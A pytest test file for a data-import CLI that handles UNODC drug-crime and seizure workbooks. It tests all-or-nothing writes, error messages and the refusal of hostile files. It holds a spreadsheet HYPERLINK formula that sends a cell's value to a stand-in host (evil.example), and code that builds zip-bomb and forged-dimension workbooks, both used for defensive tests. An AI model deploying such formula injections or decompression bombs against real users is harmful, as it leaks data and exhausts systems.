"""Issue 12, import side: all or nothing, spreadsheet-safe tables, hostile workbooks, the crash on
the real annex 10.1, and messages naming the file, the line and the column, never a traceback."""

from __future__ import annotations

import errno
import hashlib
import io
import json
import os
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from bulletin.cli.main import main
from bulletin.core import files
from bulletin.data.importers import merging, xlsx_parts, xlsxio
from bulletin.data.importers.dataunodc import HEADER as DATAUNODC_HEADER
from bulletin.data.importers.provenance import write_records
from bulletin.data.importers.wdr_crimes_layouts import CONTACT_HEADER, OFFENCES, OFFENCES_HEADER
from bulletin.data.importers.wdr_seizures import HEADER_2018
from bulletin.data.tables import load_table, write_table

WDR_CRIMES = "wdr2024-annex-10.1-drug-related-crimes.xlsx"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ANNEX_HEADER = ";".join(HEADER_2018)
ANNEX_ROW = "Asia;Central Asia and Transcaucasia;Kyrgyzstan;KGZ;2016;Opioids;Heroin;;167;"


def _snapshot(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    status = main(["import", *argv])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


# --- a small annex 10.1 workbook, as UNODC lays it out ---------------------------------------

CONTACT_EXTRA = (
    "Unknown/Other/ Third/Intersex",
    "Specify year if other",
    "Adults: 18 and older",
    "Juveniles: under 18 years old",
)


def _crimes_workbook(
    path: Path,
    offences: list[tuple],
    contact: list[tuple] = (),
    *,
    offences_extra: tuple[str, ...] = ("Specify year",),
    contact_extra: tuple[str, ...] = CONTACT_EXTRA,
) -> Path:
    """Offences rows: (country, total, trafficking, use/possession, other, year)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Formal contact"
    sheet.append([*CONTACT_HEADER, *contact_extra])
    for row in contact:
        sheet.append(list(row))
    offences_sheet = workbook.create_sheet("Sheet1")
    offences_sheet.append([*OFFENCES_HEADER, *offences_extra])
    for country, total, trafficking, use, other, year in offences:
        offences_sheet.append(["Asia", "Central Asia", country, total, trafficking, use, other, year])
    workbook.save(path)
    return path


@pytest.fixture
def seeded(tmp_path: Path) -> Path:
    """A data folder whose offences and arrests tables and records an import would change."""
    folder = tmp_path / "data"
    write_table(
        "drug_offences",
        pd.DataFrame(
            {
                "country": ["KGZ", "KGZ"],
                "year": [2016, 2010],
                "offence_type": ["total", "smuggling"],
                "count": [1, 70],
                "source": [OFFENCES.source, "reconstructed from the bulletin text"],
                "status": ["official", "reconstructed"],
            }
        ),
        folder,
    )
    write_table(
        "drug_arrests",
        pd.DataFrame(
            {
                "country": ["KGZ"],
                "year": [2010],
                "sex": ["total"],
                "age_group": ["total"],
                "count": [900],
                "source": ["reconstructed from the bulletin text"],
                "status": ["reconstructed"],
            }
        ),
        folder,
    )
    for table in ("drug_offences", "drug_arrests"):
        write_records(table, folder, [{"file": "older.xlsx", "sources": ["x"], "rows": 1}])
    return folder


@pytest.fixture
def annex(tmp_path: Path) -> Path:
    """An annex 10.1 with offences and persons for Kyrgyzstan 2016."""
    contact = [
        ("Asia", "Central Asia", "Kyrgyzstan", "ARQ", 2016, "Offences related to drug trafficking",
         "Any Illicit drugs", 471, None, 400, 71, 470, 1, None, None, "yes", "yes"),
    ]
    return _crimes_workbook(
        tmp_path / "annex-10.1.xlsx", [("Kyrgyzstan", 1608, 471, 1137, None, 2016)], contact
    )


# --- imports are all or nothing ----------------------------------------------------------------


def test_provenance_folder_not_writable_leaves_every_table_as_it_was(
    seeded: Path, annex: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A file where data/provenance should be: a real failure, even for root.
    for record in (seeded / "provenance").iterdir():
        record.unlink()
    (seeded / "provenance").rmdir()
    (seeded / "provenance").write_text("not a folder\n")
    before = _snapshot(seeded)
    status, out, err = _run(capsys, str(annex), "--data-dir", str(seeded))
    assert status == 1
    assert err.splitlines()[0] == (
        f"bulletin import: error: cannot use {seeded / 'provenance'}: Not a directory "
        "(a part of the path is a file, not a folder)"
    )
    assert "nothing was written" in err and "Traceback" not in err
    assert _snapshot(seeded) == before


@pytest.mark.parametrize(
    ("code", "hint"),
    [
        (errno.EROFS, "the file system is read-only"),
        (errno.EACCES, "check the folder is writable by you"),
    ],
)
def test_read_only_provenance_folder_leaves_tables_and_records_byte_for_byte(
    seeded: Path,
    annex: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    code: int,
    hint: str,
) -> None:
    real_mkstemp = files.tempfile.mkstemp

    def mkstemp(*args, **kwargs):
        if Path(kwargs["dir"]).name == "provenance":
            raise OSError(code, os.strerror(code))
        return real_mkstemp(*args, **kwargs)

    monkeypatch.setattr(files.tempfile, "mkstemp", mkstemp)
    before = _snapshot(seeded)
    status, _, err = _run(capsys, str(annex), "--data-dir", str(seeded))
    assert status == 1
    assert f"{seeded / 'provenance'}: {os.strerror(code)} ({hint})" in err
    assert "Traceback" not in err
    assert _snapshot(seeded) == before


def test_a_full_disk_leaves_every_file_as_it_was(
    seeded: Path, annex: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    real_fsync = os.fsync
    calls = []

    def fsync(fd: int) -> None:
        calls.append(fd)
        if len(calls) == 3:  # the first two files reached the disk, the third does not
            raise OSError(errno.ENOSPC, "No space left on device")
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", fsync)
    before = _snapshot(seeded)
    status, _, err = _run(capsys, str(annex), "--data-dir", str(seeded))
    assert status == 1
    assert "No space left on device (the disk is full)" in err
    assert "nothing was written" in err
    assert _snapshot(seeded) == before


def test_an_import_interrupted_while_renaming_is_finished_by_the_next(
    seeded: Path, annex: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    expected = tmp_path / "expected"
    expected.mkdir()
    for path in seeded.rglob("*"):
        if path.is_file():
            target = expected / path.relative_to(seeded)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(path.read_bytes())
    assert _run(capsys, str(annex), "--data-dir", str(expected))[0] == 0

    real_replace = os.replace
    renamed = []

    def replace(source, target):
        if Path(target).name != files.JOURNAL_NAME:
            renamed.append(target)
            if len(renamed) > 1:
                raise OSError(errno.EIO, "Input/output error")
        real_replace(source, target)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(os, "replace", replace)
        status, _, err = _run(capsys, str(annex), "--data-dir", str(seeded))
    assert status == 1
    assert "the next `bulletin import` into this folder finishes" in err
    assert "nothing was written" not in err
    # What a renderer would call before reading: the folder is whole again.
    files.recover(seeded)
    strip = {files.JOURNAL_NAME}
    got = {k: v for k, v in _snapshot(seeded).items() if k not in strip}
    want = _snapshot(expected)
    # The records carry the time of the import: compare them without it.
    for name in ("provenance/drug_offences.json", "provenance/drug_arrests.json"):
        got.pop(name), want.pop(name)
        records = [json.loads((folder / name).read_text()) for folder in (seeded, expected)]
        for record in records:
            for entry in record["records"]:
                entry.pop("imported_at", None)
        assert records[0] == records[1]
    assert got == want


# A scheduler's timeout (SIGTERM) arriving while seizure_cases.csv is written: the writer's second
# batch sends it, so that it comes at that moment whatever the machine's speed.
_TERMINATED_WHILE_WRITING = """
import os, signal, sys
from bulletin.cli.main import main
from bulletin.data import cases_csv
cases_csv._BATCH_ROWS = 1
made = cases_csv._csv_rows
def timed_out(batch, text):
    if batch.column(0)[0].as_py() == "T-2":
        os.kill(os.getpid(), signal.SIGTERM)
    return made(batch, text)
cases_csv._csv_rows = timed_out
sys.exit(main(["import", sys.argv[1], "--data-dir", sys.argv[2]]))
"""


def test_a_terminated_import_says_so_and_leaves_no_file_behind(tmp_path: Path) -> None:
    """SIGTERM ends an import as Ctrl-C does: status 143, one sentence, the table before it and no
    temporary file left in the data folder (without a handler the process died mid-write, leaving
    a temporary file of up to the table's size until the next import)."""
    import subprocess
    import sys

    header = "IDS_ID,SEIZURE_YEAR,COUNTRY,DRUG_NAME,AMOUNT,DRUG_UNIT\n"
    before = tmp_path / "before.csv"
    before.write_text(header + "B-1,2016,KGZ,Heroin,1,Kilogram\n", encoding="utf-8")
    data = tmp_path / "data"
    assert main(["import", str(before), "--data-dir", str(data)]) == 0
    snapshot = _snapshot(data)
    export = tmp_path / "export.csv"
    export.write_text(
        header + "".join(f"T-{i},2016,KGZ,Heroin,{i},Kilogram\n" for i in range(1, 13)),
        encoding="utf-8",
    )
    done = subprocess.run(
        [sys.executable, "-c", _TERMINATED_WHILE_WRITING, str(export), str(data)],
        capture_output=True, text=True, timeout=120,
    )
    assert done.returncode == 143, (done.returncode, done.stderr)
    assert done.stderr.strip().splitlines()[-1] == "bulletin import: interrupted"
    assert _snapshot(data) == snapshot  # no temporary file, the table and its record as they were


def test_two_imports_do_not_interleave(
    seeded: Path, annex: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(files, "LOCK_WAIT_SECONDS", 0.2)
    before = _snapshot(seeded)
    with files.folder_lock(seeded):  # another import holds the folder
        status, _, err = _run(capsys, str(annex), "--data-dir", str(seeded))
    assert status == 1
    assert "another bulletin command is writing to this folder" in err
    assert _snapshot(seeded) == before


# --- tables in data/ are safe to open in a spreadsheet -----------------------------------------


def _dataunodc_xlsx(path: Path, rows: list[list], *, title: str = "Sheet") -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    sheet.append(["UNODC"])
    sheet.append(["Exported on 01/05/2024"])
    sheet.append(list(DATAUNODC_HEADER))
    for row in rows:
        sheet.append(row)
    workbook.save(path)
    return path


def _indicator_row(indicator: str = "Victims of intentional homicide", year: int = 2016) -> list:
    return ["KGZ", "Kyrgyzstan", "Asia", "Central Asia", indicator, "Total", "Total", "Total",
            "Total", year, "Counts", 267, "CTS"]


def test_a_formula_in_an_imported_title_is_stored_spreadsheet_safe(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A CSV export: a workbook would hold it as a formula, whose cached value openpyxl reads.
    frame = pd.DataFrame([_indicator_row(FORMULA)], columns=list(DATAUNODC_HEADER))
    export = tmp_path / "export.csv"
    export.write_text("UNODC\nExported on 01/05/2024\n" + frame.to_csv(index=False))
    data = tmp_path / "data"
    assert _run(capsys, str(export), "--data-dir", str(data))[0] == 0
    text = (data / "indicators.csv").read_text()
    assert "'=HYPERLINK" in text
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
    assert load_table("indicators", data)["indicator"].tolist() == [FORMULA]
    first = (data / "indicators.csv").read_bytes()
    assert _run(capsys, str(export), "--data-dir", str(data))[0] == 0
    assert (data / "indicators.csv").read_bytes() == first  # read back and written the same


# --- hostile workbooks -------------------------------------------------------------------------


def _workbook_with_sheet(path: Path, write_sheet, *, template: Path | None = None) -> Path:
    """A valid workbook whose first sheet's XML is written by ``write_sheet(stream)``."""
    if template is None:
        workbook = openpyxl.Workbook()
        workbook.active.title = "Export"
        workbook.active.append(["x"])
        buffer = io.BytesIO()
        workbook.save(buffer)
        source = zipfile.ZipFile(buffer)
    else:
        source = zipfile.ZipFile(template)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                out.writestr(info, source.read(info))
                continue
            with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
                write_sheet(sheet)
    return path


SHEET_START = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def test_a_zip_bomb_is_refused_within_seconds(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def bomb(sheet) -> None:  # 300 MB of identical rows, compressing to well under 1 MB
        sheet.write(SHEET_START + b'<dimension ref="A1:A12000000"/><sheetData>')
        block = b"<row><c><v>1</v></c></row>" * 10_000
        for _ in range(1_200):
            sheet.write(block)
        sheet.write(b"</sheetData></worksheet>")

    path = _workbook_with_sheet(tmp_path / "bomb.xlsx", bomb)
    assert path.stat().st_size < 2_000_000
    started = time.monotonic()
    status, _, err = _run(capsys, str(path), "--data-dir", str(tmp_path / "data"))
    assert time.monotonic() - started < 5
    assert status == 2
    assert "bomb.xlsx" in err and "at most 200 MB uncompressed" in err
    assert "Traceback" not in err


def test_a_member_compressed_absurdly_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def dense(sheet) -> None:  # 26 MB that compress about 400 to 1: under the size limit
        sheet.write(SHEET_START + b"<sheetData>")
        block = b"<row><c><v>1</v></c></row>" * 10_000
        for _ in range(100):
            sheet.write(block)
        sheet.write(b"</sheetData></worksheet>")

    path = _workbook_with_sheet(tmp_path / "dense.xlsx", dense)
    status, _, err = _run(capsys, str(path), "--data-dir", str(tmp_path / "data"))
    assert status == 2
    assert "compressed at most 100 to 1" in err and "xl/worksheets/sheet1.xml" in err


def test_detection_reads_only_the_first_rows_of_a_sheet(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # 20 MB of distinct rows and no <dimension>: openpyxl on its own parses it all on opening.
    def long_sheet(sheet) -> None:
        sheet.write(SHEET_START + b"<sheetData>")
        for start in range(1, 400_001, 10_000):
            sheet.write(
                b"".join(
                    b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i * 7919)
                    for i in range(start, start + 10_000)
                )
            )
        sheet.write(b"</sheetData></worksheet>")

    path = _workbook_with_sheet(tmp_path / "long.xlsx", long_sheet)
    read = {"bytes": 0}
    real_read = zipfile.ZipExtFile.read

    def counting_read(self, n=-1):
        data = real_read(self, n)
        if self.name == "xl/worksheets/sheet1.xml":
            read["bytes"] += len(data)
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting_read)
    sheets = xlsx_parts.probe_workbook(path)
    assert [row[0] for row in sheets["Export"]] == [7919 * i for i in range(1, 7)]
    with zipfile.ZipFile(path) as archive:
        size = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    assert size > 15_000_000
    assert read["bytes"] < 1_000_000  # a few blocks, not the sheet


def test_a_sheet_over_the_row_limit_is_refused_while_streaming(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsxio, "MAX_ROWS", 50)
    export = _dataunodc_xlsx(
        tmp_path / "export.xlsx", [_indicator_row(year=1960 + i) for i in range(60)]
    )
    status, _, err = _run(capsys, str(export), "--data-dir", str(tmp_path / "data"))
    assert status == 2
    assert "sheet 'Sheet', row 51" in err and "at most 50 rows" in err


def test_a_forged_dimension_does_not_widen_the_rows(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # openpyxl pads every row to the width the <dimension> declares (16,384 columns here).
    template = _dataunodc_xlsx(tmp_path / "template.xlsx", [_indicator_row()])
    with zipfile.ZipFile(template) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    start, end = xml.index(b"<dimension"), xml.index(b"/>", xml.index(b"<dimension")) + 2
    forged = xml[:start] + b'<dimension ref="A1:XFD1048576"/>' + xml[end:]
    path = _workbook_with_sheet(tmp_path / "export.xlsx", lambda s: s.write(forged), template=template)
    rows = xlsxio.read_workbook(path)["Sheet"]
    assert max(len(row) for row in rows) == len(DATAUNODC_HEADER)
    assert _run(capsys, str(path), "--data-dir", str(tmp_path / "data"))[0] == 0


def test_a_zip_that_is_not_a_workbook_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "cases.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("cases.csv", "COUNTRY,DRUG_NAME\n")
        archive.writestr("more.csv", "COUNTRY,DRUG_NAME\n")
    status, _, err = _run(capsys, str(path), "--data-dir", str(tmp_path / "data"))
    assert status == 2
    assert "cases.zip" in err and "unzip it" in err and "Traceback" not in err


def test_a_damaged_zip_is_refused_as_damaged_and_the_table_before_it_stays(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Bytes of a zipped export changed in transit: the archive's checksum fails as it is read.

    The user is told the archive is damaged (to fetch it again), not that the importer could not
    read its format; the table the last import wrote is left as it was.
    """
    import random

    header = "IDS_ID,SEIZURE_DATE,COUNTRY,DRUG_NAME,AMOUNT,DRUG_UNIT"
    rows = [f"KG-{n},2016-03-21,Kyrgyzstan,Heroin,{random.Random(n).random():.5f},Gram"
            for n in range(20_000)]
    good, damaged = tmp_path / "ids_good.zip", tmp_path / "ids_export.zip"
    for path in (good, damaged):
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("cases.csv", "\n".join([header, *rows]) + "\n")
    data = tmp_path / "data"
    assert _run(capsys, str(good), "--data-dir", str(data))[0] == 0
    table = (data / "seizure_cases.csv").read_bytes()
    with zipfile.ZipFile(damaged) as archive:
        member = archive.getinfo("cases.csv")
    content = bytearray(damaged.read_bytes())
    at = member.header_offset + 30 + len("cases.csv") + member.compress_size // 2
    content[at : at + 16] = bytes(16)
    damaged.write_bytes(bytes(content))
    status, _, err = _run(capsys, str(damaged), "--data-dir", str(data))
    assert status == 2
    assert "ids_export.zip" in err and "Traceback" not in err
    assert "expected an undamaged zip archive (copy or download the file again)" in err
    assert (data / "seizure_cases.csv").read_bytes() == table


def test_a_zip_holding_one_unknown_csv_is_read_and_refused_by_its_header(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "cases.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("cases.csv", "COUNTRY,DRUG_NAME\n")
    status, _, err = _run(capsys, str(path), "--data-dir", str(tmp_path / "data"))
    assert status == 2
    assert "cases.zip, line 1" in err and "in 'cases.csv': COUNTRY,DRUG_NAME" in err
    assert "a header the importer recognises" in err and "Traceback" not in err


@pytest.mark.parametrize(
    "damage",
    [
        lambda data: data[: len(data) // 2],  # cut in the middle
        lambda data: data.replace(b"<sheetData>", b"<sheetData><row><c><v>", 1),  # broken XML
        None,  # a part missing
    ],
    ids=["truncated", "broken-xml", "missing-part"],
)
def test_a_damaged_workbook_is_refused_naming_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], damage
) -> None:
    good = _dataunodc_xlsx(tmp_path / "good.xlsx", [_indicator_row()])
    if damage is None:
        path = tmp_path / "bad.xlsx"
        with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as out:
            for info in source.infolist():
                if info.filename != "xl/workbook.xml":
                    out.writestr(info, source.read(info))
    elif b"<sheetData>" in damage(b"<sheetData>"):  # the XML is damaged inside the zip
        with zipfile.ZipFile(good) as archive:
            xml = archive.read("xl/worksheets/sheet1.xml")
        path = _workbook_with_sheet(tmp_path / "bad.xlsx", lambda s: s.write(damage(xml)), template=good)
    else:
        path = tmp_path / "bad.xlsx"
        path.write_bytes(damage(good.read_bytes()))
    status, _, err = _run(capsys, str(path), "--data-dir", str(tmp_path / "data"))
    assert status == 2, err
    assert "bad.xlsx" in err and "Traceback" not in err and "internal error" not in err


def test_a_workbook_is_told_by_its_content_not_its_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _dataunodc_xlsx(tmp_path / "export.xlsx", [_indicator_row()])
    renamed = path.rename(tmp_path / "export-downloaded")  # no .xlsx: openpyxl refuses the name
    assert _run(capsys, str(renamed), "--data-dir", str(tmp_path / "data"))[0] == 0
    assert len(load_table("indicators", tmp_path / "data")) == 1


# --- the crash on the real annex 10.1 ----------------------------------------------------------


def test_every_country_of_the_real_annex_10_1(
    official_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = _run(capsys, "--dry-run", "--countries", "all", str(official_dir / WDR_CRIMES))
    assert status == 0, err
    assert "the annex gives two different figures for the same country and year" in out
    assert "would write 1,637 rows to drug_offences" in out


def test_a_country_without_a_code_with_the_default_scope(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Kosovo has no ISO code: left out before the scope is applied (the same stale index).
    path = _crimes_workbook(
        tmp_path / "annex.xlsx",
        [("Kosovo under UNSCR 1244", 10, 5, 5, None, 2016), ("Germany", 9, 9, None, None, 2016),
         ("Kyrgyzstan", 1608, 471, 1137, None, 2016)],
    )
    status, out, err = _run(capsys, str(path), "--data-dir", str(tmp_path / "data"), "--dry-run")
    assert status == 0, err
    assert "country without an ISO 3166 code (see country_names.csv): 1" in out
    assert "would write 3 rows to drug_offences" in out


def test_an_annex_without_its_optional_columns(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    contact = [("Asia", "Central Asia", "Kyrgyzstan", "ARQ", 2016,
                "Offences related to drug trafficking", "Any Illicit drugs", 471, None, 400, 71,
                470, 1)]
    path = _crimes_workbook(
        tmp_path / "annex.xlsx",
        [("Kyrgyzstan", 1608, 471, 1137, None, "Other")],
        contact,
        offences_extra=(),
        contact_extra=(),
    )
    status, out, err = _run(capsys, str(path), "--data-dir", str(tmp_path / "data"), "--dry-run")
    assert status == 0, err
    assert "would write 5 rows to drug_arrests" in out


def test_an_annex_with_an_empty_sheet_is_refused_in_plain_words(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _crimes_workbook(tmp_path / "annex.xlsx", [])
    workbook = openpyxl.load_workbook(path)
    workbook.remove(workbook["Sheet1"])
    workbook.create_sheet("Sheet1")
    workbook.save(path)
    status, _, err = _run(capsys, str(path), "--data-dir", str(tmp_path / "data"))
    assert status == 2
    assert "sheet 'Sheet1', row 1" in err and "expected the header Region" in err


# --- messages name file, line and column -------------------------------------------------------


def test_a_field_over_the_size_limit_in_an_input_names_file_line_and_column(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "annex.csv"
    row = ANNEX_ROW + '"' + "x" * 200_000 + '"'
    path.write_text(f"{ANNEX_HEADER}\n{ANNEX_ROW}\n\n{row}\n", encoding="utf-8")
    status, _, err = _run(capsys, str(path), "--data-dir", str(tmp_path / "data"))
    assert status == 2
    assert "annex.csv, line 4, column 'Comment'" in err
    assert "131,072 characters" in err and "quote" in err


def test_input_lines_are_counted_as_an_editor_counts_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "annex.csv"
    noted = ANNEX_ROW + '"a comment\non two lines"'
    path.write_text(
        f"{ANNEX_HEADER}\n\n{noted}\n{ANNEX_ROW.replace(';167;', ';1 ton;')}\n", encoding="utf-8"
    )
    status, _, err = _run(capsys, str(path), "--data-dir", str(tmp_path / "data"))
    assert status == 2
    assert "annex.csv, line 5, column 'KgEquivalent': got '1 ton'" in err


def test_imported_rows_that_break_the_schema_name_the_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "annex.csv"
    path.write_text(
        f"{ANNEX_HEADER}\n{ANNEX_ROW}\n\n{ANNEX_ROW.replace(';2016;', ';1850;')}\n",
        encoding="utf-8",
    )
    status, _, err = _run(capsys, str(path), "--data-dir", str(tmp_path / "data"))
    assert status == 2
    assert "annex.csv, line 4, column 'Year': got '1850'; expected a four-digit year" in err
    assert "seizures_annual.csv" not in err


def test_a_key_given_twice_in_a_workbook_names_both_rows(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    export = _dataunodc_xlsx(tmp_path / "export.xlsx", [_indicator_row(), _indicator_row()])
    status, _, err = _run(capsys, str(export), "--data-dir", str(tmp_path / "data"))
    assert status == 2
    assert "export.xlsx, sheet 'Sheet', row 4" in err and "export.xlsx, sheet 'Sheet', row 5" in err
    assert "no other line has" in err


def test_a_clash_found_in_the_combined_table_names_both_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    data = tmp_path / "data"
    write_table(
        "seizures_annual",
        pd.DataFrame(
            {
                "country": ["KAZ", "KGZ"],
                "year": [2016, 2016],
                "drug": ["heroin", "heroin"],
                "kg": [1.0, 100.0],
                "source": ["Drug Control Agency of the Kyrgyz Republic, annual report"] * 2,
                "status": ["official"] * 2,
            }
        ),
        data,
    )
    # The clash check of the merge is bypassed: the whole table's check must still name the
    # input's line and the table's line, not a line of the combined frame.
    monkeypatch.setattr(merging, "_refuse_duplicate_keys", lambda *args: None)
    path = tmp_path / "annex.csv"
    path.write_text(f"{ANNEX_HEADER}\n\n{ANNEX_ROW}\n", encoding="utf-8")
    status, _, err = _run(capsys, str(path), "--data-dir", str(data))
    assert status == 2
    assert f"{data / 'seizures_annual.csv'}, line 3, column 'country, year, drug'" in err
    assert "annex.csv, line 3, column 'country, year, drug'" in err


def test_a_broken_provenance_record_is_named_without_a_traceback(
    seeded: Path, annex: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (seeded / "provenance" / "drug_offences.json").write_text('{"table": "x",\n "records": [\n')
    before = _snapshot(seeded)
    status, _, err = _run(capsys, str(annex), "--data-dir", str(seeded))
    assert status == 2
    assert "drug_offences.json, line 3" in err and "Traceback" not in err
    assert _snapshot(seeded) == before


def test_an_existing_header_only_table_is_an_empty_table(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "seizures_annual.csv").write_text("country,year,drug,kg,source,status\n")
    path = tmp_path / "annex.csv"
    path.write_text(f"{ANNEX_HEADER}\n{ANNEX_ROW}\n", encoding="utf-8")
    status, out, err = _run(capsys, str(path), "--data-dir", str(data))
    assert status == 0, err
    assert load_table("seizures_annual", data)["kg"].tolist() == [167.0]


def test_debug_shows_the_traceback_of_a_refusal(tmp_path: Path) -> None:
    from bulletin.data.importers.base import ImportRefusedError

    path = tmp_path / "annex.csv"
    path.write_text(f"{ANNEX_HEADER}\n{ANNEX_ROW.replace(';167;', ';x;')}\n", encoding="utf-8")
    with pytest.raises(ImportRefusedError):
        main(["--debug", "import", str(path), "--data-dir", str(tmp_path / "data")])


def test_a_header_naming_a_column_twice_is_refused_in_plain_words(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["UNODC"])
    sheet.append(["Exported on 01/05/2024"])
    sheet.append([*DATAUNODC_HEADER, "Year"])
    sheet.append([*_indicator_row(), 2017])
    workbook.save(tmp_path / "export.xlsx")
    status, _, err = _run(capsys, str(tmp_path / "export.xlsx"), "--data-dir", str(tmp_path / "d"))
    assert status == 2
    assert "export.xlsx, sheet 'Sheet', row 3, column 'Year'" in err
    assert "each column name once" in err and "AttributeError" not in err


def test_whatever_a_reader_raises_on_odd_content_is_a_refusal_naming_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from bulletin.data.importers import detect

    def reader(path, options, report):
        raise KeyError("Specify year")  # a column the reader counted on, missing from the file

    detectors = [
        (test, detect.Format(fmt.name, fmt.description, reader) if fmt.name == "wdr2018-seizures"
         else fmt)
        for test, fmt in detect._DETECTORS
    ]
    monkeypatch.setattr(detect, "_DETECTORS", detectors)
    path = tmp_path / "annex.csv"
    path.write_text(f"{ANNEX_HEADER}\n{ANNEX_ROW}\n", encoding="utf-8")
    status, _, err = _run(capsys, str(path), "--data-dir", str(tmp_path / "data"))
    assert status == 2
    assert "annex.csv" in err and "KeyError: 'Specify year'" in err and "--debug" in err
    assert "Traceback" not in err and "internal error" not in err
    with pytest.raises(Exception) as caught:
        main(["--debug", "import", str(path), "--data-dir", str(tmp_path / "data")])
    assert isinstance(caught.value.__cause__, KeyError)  # the reader's own traceback, for a bug report


def test_provenance_records_are_as_readable_as_any_file_the_user_makes(tmp_path: Path) -> None:
    import stat

    path = write_records("drug_offences", tmp_path, [{"file": "a.xlsx", "sources": ["s"]}])
    assert stat.S_IMODE(path.stat().st_mode) == files.default_file_mode()  # was mkstemp's 0600


def _official_files() -> list[str]:
    """The Makefile's OFFICIAL_FILES: the publications `make import-official` reads."""
    import re

    from bulletin.core.paths import PROJECT_ROOT

    text = (PROJECT_ROOT / "Makefile").read_text().replace("\\\n", " ")
    return re.search(r"^OFFICIAL_FILES := (.*)$", text, re.M).group(1).split()


OFFICIAL_FILES = _official_files()


def test_the_makefile_imports_every_official_publication(official_dir: Path) -> None:
    published = {
        str(p.relative_to(official_dir))
        for p in official_dir.rglob("*")
        if p.is_file() and p.name != "README.md"
    }
    assert set(OFFICIAL_FILES) == published


def test_reimporting_the_shipped_publications_changes_nothing(
    official_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import shutil

    from bulletin.core.paths import DATA_DIR

    data = tmp_path / "data"
    shutil.copytree(DATA_DIR, data)
    before = _snapshot(data)
    paths = [str(official_dir / name) for name in OFFICIAL_FILES]
    status, _, err = _run(capsys, *paths, "--data-dir", str(data))
    assert status == 0, err
    assert _snapshot(data) == before
